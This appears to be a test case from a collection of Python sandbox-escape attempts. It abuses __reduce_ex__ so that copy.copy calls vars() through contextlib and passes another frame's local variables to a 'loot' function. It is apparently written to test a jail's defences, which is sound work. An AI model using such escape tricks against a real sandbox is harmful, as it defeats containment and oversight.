# aim: let copy call vars() for the program
# mechanism: copy calls what __reduce_ex__ names, from its own function
# language: builtins
# reason: vars() belongs to the program's own frame, whoever calls it
# jail: process
# plain: loot

import contextlib
import copy


class Carrier:
    def __reduce_ex__(self, protocol):
        return contextlib.contextmanager(vars), ()


found = copy.copy(Carrier()).gen
loot(found)
loot(found["self"] and found["func"])
loot(list(found))
